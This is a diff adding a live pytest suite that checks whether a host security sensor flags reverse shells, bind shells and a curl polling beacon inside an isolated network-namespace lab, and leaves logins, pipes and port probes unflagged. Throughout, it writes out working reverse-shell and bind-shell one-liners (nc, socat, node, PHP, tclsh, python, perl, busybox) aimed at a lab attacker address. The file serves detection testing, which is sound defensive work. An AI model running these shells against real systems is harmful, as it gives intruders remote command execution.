@@ -1,0 +1,395 @@
+"""The stdio graph, live in the netns lab (issue 11): relay shells, interpreter command loops, bind shells and
+beacons each give one incident with the right destination; logins, terminals, pipes and port probes give no
+reverse-shell or C2 alert. Traffic stays between the lab's victim and attacker namespaces, every command is
+bounded by a timeout, and each benign test first proves the sensor saw its exec and its connect."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import os
+import shutil
+import subprocess
+import sys
+import time
+import uuid
+
+import pytest
+
+from agent.events import Connect, Exec
+
+pytestmark = pytest.mark.live
+
+_ports = itertools.count(46000 + os.getpid() % 500 * 8)
+PAYLOAD = b"echo cw-$((6*7))\nexit\n"
+C2 = {"reverse_shell", "bind_shell", "stdio_to_socket", "c2_beacon", "interpreter_reverse_shell", "tunnel_tool",
+      "irc_connection"}
+
+
+def need(*tools: str) -> None:
+    missing = [t for t in tools if shutil.which(t) is None]
+    if missing:
+        from conftest import skip_or_fail
+        skip_or_fail(f"missing tools {missing} (make setup installs them)")
+
+
+def incidents(alerts: list[dict]) -> dict[str, list[dict]]:
+    out: dict[str, list[dict]] = {}
+    for a in alerts:
+        out.setdefault(a["chainwatch"]["incident"]["id"], []).append(a)
+    return out
+
+
+def c2_alerts(alerts: list[dict]) -> list[dict]:
+    return [a for a in alerts if C2 & set(a["chainwatch"]["signals"])]
+
+
+def tagged(command: str) -> tuple[str, str]:
+    """``command`` with a unique marker comment: the sensor is host-wide, so a test looks only at alerts
+    whose process or ancestry carries its marker (the bash -c argv is in every descendant's ancestry)."""
+    token = f"cw-test-{uuid.uuid4().hex[:12]}"
+    return f"{command} # {token}", token
+
+
+def mine(alerts: list[dict], token: str) -> list[dict]:
+    return [a for a in alerts if token in json.dumps([a["process"].get("args"), a["chainwatch"]["ancestry"]])]
+
+
+def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "reverse_shell",
+            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15) -> dict:
+    """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
+    port = next(_ports)
+    host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
+    listener = netlab.listen_tcp(netlab.attacker_ns, port, family=family, payload=payload, duration=timeout)
+    mark = sensorlab.alert_mark()
+    command, token = tagged(command.format(host=host, port=port))
+    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    received = listener.wait(timeout=timeout + 5)
+    assert expect in received, received
+    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    groups = incidents(c2_alerts(alerts))
+    assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
+    lines = next(iter(groups.values()))
+    hit = [a for a in lines if signal in a["chainwatch"]["signals"]]
+    assert hit, [(a["rule"]["name"], a["event"]["reason"]) for a in lines]
+    assert hit[-1]["destination"] == {"ip": host, "port": port}, hit[-1]["event"]["reason"]
+    assert hit[-1]["event"]["severity"] >= 73
+    return hit[-1]
+
+
+FIFO_RELAY = "rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | nc {{host}} {{port}} > {f}; rm -f {f}"
+
+
+def _fifo(tmp_path) -> str:
+    return str(tmp_path / "f")
+
+
+def test_mkfifo_sh_openbsd_nc(sensorlab, netlab, tmp_path) -> None:
+    """`mkfifo; cat f | sh -i | nc H P > f` with OpenBSD nc: one reverse-shell incident naming nc's peer."""
+    need("nc.openbsd")
+    reverse(sensorlab, netlab, FIFO_RELAY.format(f=_fifo(tmp_path)).replace("nc ", "nc.openbsd -q 1 ", 1))
+
+
+def test_mknod_fifo_relay_ipv6(sensorlab, netlab, tmp_path) -> None:
+    """The same relay made with `mknod p`, over IPv6."""
+    need("nc.openbsd")
+    f = _fifo(tmp_path)
+    reverse(sensorlab, netlab, f"rm -f {f}; mknod {f} p; cat {f} | /bin/sh -i 2>&1 | nc.openbsd -q 1 {{host}} "
+            f"{{port}} > {f}", family=6)
+
+
+def test_busybox_nc_fifo_relay(sensorlab, netlab, tmp_path) -> None:
+    """busybox nc with a FIFO."""
+    need("busybox")
+    f = _fifo(tmp_path)
+    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | /bin/sh -i 2>&1 | busybox nc {{host}} {{port}} > {f}")
+
+
+def test_socat_pty_exec(sensorlab, netlab) -> None:
+    """socat exec:'bash -li',pty,stderr,setsid: bash on a pty whose master socat holds."""
+    need("socat")
+    reverse(sensorlab, netlab, "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{host}:{port}")
+
+
+def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path) -> None:
+    """`sh -i < f 2>&1 | nc H P > f`: the FIFO on the shell's own stdin, written by nc."""
+    need("nc.openbsd")
+    f = _fifo(tmp_path)
+    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | nc.openbsd -q 1 {{host}} {{port}} "
+            f"> {f}")
+
+
+NODE = ("node -e '(function(){{var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
+        "var c=new net.Socket();c.connect({port},\"{host}\",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);"
+        "sh.stderr.pipe(c);}});sh.on(\"exit\",function(){{c.end();}});}})();'")
+
+
+def test_node_net_child_process(sensorlab, netlab) -> None:
+    """node net.Socket piped into child_process.spawn('/bin/sh') (socketpairs between them)."""
+    need("node")
+    reverse(sensorlab, netlab, NODE)
+
+
+def test_php_shell_exec_loop(sensorlab, netlab) -> None:
+    """A PHP loop reading commands from a socket and answering with shell_exec: one alert for the loop."""
+    need("php")
+    code = ('$s=fsockopen("{host}",{port});while(($c=fgets($s))!==false){{if(trim($c)=="exit")break;'
+            'fwrite($s,shell_exec($c));}}')
+    alert = reverse(sensorlab, netlab, f"php -r '{code}'")
+    assert alert["process"]["name"].startswith("php")
+
+
+def test_tclsh_socket_loop(sensorlab, netlab) -> None:
+    """A tclsh socket loop that execs each command it reads (fed its script on stdin)."""
+    need("tclsh")
+    script = ('set s [socket {host} {port}];while {{[gets $s c] >= 0}} {{if {{$c eq "exit"}} break;'
+              'catch {{exec sh -c $c}} r;puts $s $r;flush $s}};close $s')
+    reverse(sensorlab, netlab, f"echo '{script}' | tclsh")
+
+
+def test_python_pty_relay_through_nc(sensorlab, netlab, tmp_path) -> None:
+    """python pty.spawn behind a FIFO relay to nc: sh on a pty whose master python holds."""
+    need("nc.openbsd")
+    f = _fifo(tmp_path)
+    reverse(sensorlab, netlab, f"rm -f {f}; mkfifo {f}; cat {f} | python3 -c 'import pty; pty.spawn(\"/bin/sh\")' "
+            f"2>&1 | nc.openbsd -q 1 {{host}} {{port}} > {f}")
+
+
+def test_relay_inside_npm_context(sensorlab, netlab, tmp_path) -> None:
+    """The mkfifo relay started under an npm install root is one incident in its context, at least high."""
+    need("nc.openbsd", "npm")
+    f = _fifo(tmp_path)
+    # A process whose exec the context rules recognise as `npm install`: a shell script named npm.
+    npm = tmp_path / "npm"
+    npm.write_text("#!/bin/bash\nshift\nexec bash -c \"$1\"\n")
+    npm.chmod(0o755)
+    relay = FIFO_RELAY.format(f=f).replace("nc ", "nc.openbsd -q 1 ", 1)
+    alert = reverse(sensorlab, netlab, f"{npm} install \"{relay}\"")
+    assert alert["supply_chain"]["context"] in (None, "package_install_npm")
+
+
+# ------------------------------------------------------------------ bind shells
+
+def bind(sensorlab, netlab, command: str, *, family: int = 4, timeout: float = 15) -> dict:
+    """Start a bind shell ({port}) in the victim; the attacker connects and runs the payload."""
+    port = next(_ports)
+    victim = netlab.victim_ip6 if family == 6 else netlab.victim_ip4
+    mark = sensorlab.alert_mark()
+    command, token = tagged(command.format(port=port))
+    netlab.spawn(netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + timeout
+    got = b""
+    while time.monotonic() < deadline and b"cw-42" not in got:
+        res = netlab.connect_tcp(netlab.attacker_ns, victim, port, PAYLOAD, timeout=4)
+        got = res.stdout or b""
+        if b"cw-42" not in got:
+            time.sleep(0.3)
+    assert b"cw-42" in got
+    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    groups = incidents(c2_alerts(alerts))
+    assert len(groups) == 1, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
+    hit = [a for a in next(iter(groups.values())) if "bind_shell" in a["chainwatch"]["signals"]]
+    assert hit, [(a["rule"]["name"], a["event"]["reason"]) for a in alerts]
+    last = hit[-1]
+    assert last["destination"]["port"] == port
+    assert last["destination"]["ip"] in (victim, "0.0.0.0", "::")
+    attacker = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
+    assert last["source"]["ip"] == attacker
+    assert last["network"]["direction"] == "ingress"
+    return last
+
+
+def test_bind_nc_traditional(sensorlab, netlab) -> None:
+    """nc.traditional -l -p P -e /bin/sh."""
+    need("nc.traditional")
+    bind(sensorlab, netlab, "nc.traditional -l -p {port} -e /bin/sh")
+
+
+def test_bind_socat(sensorlab, netlab) -> None:
+    """socat TCP-LISTEN EXEC:/bin/sh (a socketpair between socat and sh)."""
+    need("socat")
+    bind(sensorlab, netlab, "socat TCP-LISTEN:{port},reuseaddr EXEC:/bin/sh")
+
+
+def test_bind_python_pty(sensorlab, netlab) -> None:
+    """python accept + dup2 + pty.spawn."""
+    code = ('import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);'
+            's.bind(("0.0.0.0",{port}));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];'
+            'pty.spawn("/bin/sh")')
+    bind(sensorlab, netlab, f"python3 -c '{code}'")
+
+
+def test_bind_perl(sensorlab, netlab) -> None:
+    """perl accept + open STDIN/STDOUT on the socket + exec sh."""
+    code = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);'
+            'bind(S,sockaddr_in({port},INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");open(STDOUT,">&C");'
+            'open(STDERR,">&C");exec("/bin/sh -i");')
+    bind(sensorlab, netlab, f"perl -e '{code}'")
+
+
+def test_bind_busybox_nc(sensorlab, netlab) -> None:
+    """busybox nc -l -p P -e /bin/sh."""
+    need("busybox")
+    bind(sensorlab, netlab, "busybox nc -l -p {port} -e /bin/sh")
+
+
+# ------------------------------------------------------------------ beacon
+
+def test_curl_polling_beacon(sensorlab, netlab) -> None:
+    """`while :; do curl -s http://H:P/c | sh; sleep 1; done` gives one C2 beacon alert with the destination."""
+    need("curl")
+    port = next(_ports)
+    www = netlab.spawn(netlab.attacker_ns, [sys.executable, "-c", (
+        "import http.server as h\nclass H(h.BaseHTTPRequestHandler):\n def do_GET(s):\n"
+        "  b=b'echo cw-beacon\\n';s.send_response(200);s.send_header('Content-Length',str(len(b)));s.end_headers();"
+        "s.wfile.write(b)\n def log_message(s,*a): pass\n"
+        f"h.HTTPServer(('{netlab.attacker_ip4}',{port}),H).serve_forever()")])
+    time.sleep(0.8)
+    mark = sensorlab.alert_mark()
+    command, token = tagged(f"for i in 1 2 3; do curl -s -m 3 http://{netlab.attacker_ip4}:{port}/c | sh; sleep 1; "
+                            "done")
+    netlab.run(netlab.victim_ns, ["timeout", "8", "bash", "-c", command], timeout=15)
+    www.kill()
+    alerts = mine(sensorlab.alerts_since(mark, settle=1.5), token)
+    beacons = [a for a in alerts if "c2_beacon" in a["chainwatch"]["signals"]]
+    assert len({a["chainwatch"]["incident"]["id"] for a in beacons}) == 1, alerts
+    assert beacons[-1]["destination"] == {"ip": netlab.attacker_ip4, "port": port}
+    assert beacons[-1]["event"]["severity"] >= 73
+
+
+# ------------------------------------------------------------------ benign
+
+def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None, server: list[str] | None = None,
+           ns: str | None = None, timeout: float = 15) -> list[dict]:
+    """Run ``command`` in the victim; prove the sensor saw ``exe`` exec and connect to the lab; return alerts."""
+    port = port or next(_ports)
+    if server is not None:
+        netlab.spawn(netlab.attacker_ns, [a.format(port=port, host=netlab.attacker_ip4) for a in server])
+        time.sleep(0.8)
+    else:
+        netlab.listen_tcp(netlab.attacker_ns, port, payload=b"220 lab ready\r\n", duration=timeout, max_conns=5)
+    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
+    command, token = tagged(command.format(host=netlab.attacker_ip4, port=port))
+    netlab.run(ns or netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command], timeout=timeout + 5)
+    seen_exec = sensorlab.wait_for(lambda e: isinstance(e, Exec) and os.path.basename(e.filename) == exe,
+                                   since=mark, timeout=10)
+    seen_connect = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark, timeout=10)
+    assert seen_exec, f"the sensor never saw {exe} exec"
+    assert seen_connect, f"the sensor never saw the connect to port {port}"
+    return mine(sensorlab.alerts_since(amark, settle=1.0), token)
+
+
+def quiet(alerts: list[dict]) -> None:
+    bad = [(a["rule"]["name"], a["event"]["reason"]) for a in alerts
+           if C2 & set(a["chainwatch"]["signals"]) or a["event"]["severity"] > 21]
+    assert bad == []
+    for a in alerts:  # notices never call themselves what they are not
+        text = (a["rule"]["name"] + " " + a["event"]["reason"]).lower()
+        assert "reverse shell" not in text and "c2" not in text and "bind shell" not in text
+
+
+def test_benign_busybox_wget(sensorlab, netlab) -> None:
+    """`busybox wget` is wget, not a shell."""
+    need("busybox")
+    quiet(benign(sensorlab, netlab, "busybox wget -q -T 3 -O /dev/null http://{host}:{port}/ || true", exe="busybox"))
+
+
+def test_benign_openssl_certificate_check_pipe(sensorlab, netlab) -> None:
+    """`openssl s_client -connect H:P </dev/null | openssl x509 -noout -enddate`: a pipe is not a relay."""
+    quiet(benign(sensorlab, netlab, "openssl s_client -connect {host}:{port} </dev/null 2>/dev/null | "
+                 "openssl x509 -noout -enddate 2>/dev/null; true", exe="openssl"))
+
+
+def test_benign_telnet_banner(sensorlab, netlab, tmp_path) -> None:
+    """`(echo QUIT) | telnet H 25 > banner.txt`."""
+    need("telnet")
+    quiet(benign(sensorlab, netlab, f"(echo QUIT; sleep 1) | telnet {{host}} {{port}} > {tmp_path}/banner.txt 2>&1; "
+                 "true", exe="telnet"))
+
+
+@pytest.mark.parametrize("probe", [
+    "timeout 1 bash -c 'echo > /dev/tcp/{host}/{port}'",
+    "(exec 3<>/dev/tcp/{host}/{port})",
+    "for i in 1 2 3; do (echo > /dev/tcp/{host}/{port}) 2>/dev/null && break; sleep 0.2; done",
+])
+def test_benign_port_probes(sensorlab, netlab, probe) -> None:
+    """Wait-for-service probes: at most a notice that does not call itself a reverse shell."""
+    quiet(benign(sensorlab, netlab, probe, exe="bash"))
+
+
+def test_benign_port_probe_in_ci_step(sensorlab, netlab, tmp_path) -> None:
+    """The same probe inside a GitHub Actions step (a fake Runner.Worker root) stays a notice."""
+    runner = tmp_path / "Runner.Worker"
+    runner.write_text("#!/bin/bash\nexec bash -c \"$1\"\n")
+    runner.chmod(0o755)
+    quiet(benign(sensorlab, netlab, f"{runner} \"timeout 1 bash -c 'echo > /dev/tcp/{{host}}/{{port}}'\"",
+                 exe="bash"))
+
+
+def test_benign_curl_pipe_sh_outside_context(sensorlab, netlab) -> None:
+    """`curl … | sh` once, outside any context: at most a download notice."""
+    quiet(benign(sensorlab, netlab, "curl -s -m 3 http://{host}:{port}/ | sh >/dev/null 2>&1; true", exe="curl",
+                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+
+
+def test_benign_local_mkfifo_pipeline(sensorlab, netlab, tmp_path) -> None:
+    """A local mkfifo pipeline feeding a shell, with an unrelated curl in the same script: nothing."""
+    f = tmp_path / "p"
+    quiet(benign(sensorlab, netlab, f"mkfifo {f}; (echo 'echo hi' > {f} &); sh < {f} > /dev/null; "
+                 "curl -s -m 3 -o /dev/null http://{host}:{port}/; rm -f " + str(f), exe="curl",
+                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+
+
+def test_benign_script_and_tmux(sensorlab, netlab) -> None:
+    """`script -qc` and a tmux session running a command that connects out: nothing."""
+    need("script", "tmux")
+    sock = f"/tmp/cw-tmux-{os.getpid()}"
+    quiet(benign(sensorlab, netlab, "script -qc 'curl -s -m 3 -o /dev/null http://{host}:{port}/' /dev/null; "
+                 f"tmux -S {sock} new-session -d 'curl -s -m 3 -o /dev/null http://{{host}}:{{port}}/'; sleep 2; "
+                 f"tmux -S {sock} kill-server 2>/dev/null; rm -f {sock}; true", exe="curl",
+                 server=[sys.executable, "-m", "http.server", "--bind", "{host}", "{port}"]))
+
+
+SSHD_CONFIG = """Port {port}
+ListenAddress {addr}
+HostKey {dir}/host_ed25519
+PidFile {dir}/sshd.pid
+AuthorizedKeysFile {dir}/authorized_keys
+PasswordAuthentication no
+KbdInteractiveAuthentication no
+UsePAM no
+StrictModes no
+PermitRootLogin prohibit-password
+"""
+
+
+def test_benign_inbound_ssh_login_with_pty_and_outbound_ssh_tt(sensorlab, netlab, tmp_path) -> None:
+    """A real sshd the test starts in the victim namespace with its own config; the attacker namespace logs in
+    with a pty (`ssh -tt`): sshd re-executes with the connection on stdio and gives the shell a pty. Nothing."""
+    need("ssh", "ssh-keygen")
+    sshd = "/usr/sbin/sshd"
+    if not os.path.exists(sshd):
+        from conftest import skip_or_fail
+        skip_or_fail("openssh-server is not installed (make setup installs it)")
+    port = next(_ports)
+    d = tmp_path
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host_ed25519")], check=True,
+                   timeout=30)
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "client")], check=True, timeout=30)
+    (d / "authorized_keys").write_text((d / "client.pub").read_text())
+    (d / "sshd_config").write_text(SSHD_CONFIG.format(port=port, addr=netlab.victim_ip4, dir=d))
+    os.makedirs("/run/sshd", exist_ok=True)
+    netlab.spawn(netlab.victim_ns, [sshd, "-D", "-e", "-f", str(d / "sshd_config")],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    time.sleep(1.0)
+    mark, amark = sensorlab.mark(), sensorlab.alert_mark()
+    res = netlab.run(netlab.attacker_ns, ["timeout", "20", "ssh", "-tt", "-i", str(d / "client"), "-p", str(port),
+                                          "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+                                          "-o", "BatchMode=yes", f"root@{netlab.victim_ip4}",
+                                          "echo cw-$((6*7)); exit"], timeout=30)
+    assert b"cw-42" in (res.stdout or b""), res
+    assert sensorlab.wait_for(lambda e: isinstance(e, Exec) and e.filename.endswith("sshd"), since=mark)
+    assert sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark)
+    quiet(sensorlab.alerts_since(amark, settle=1.5))
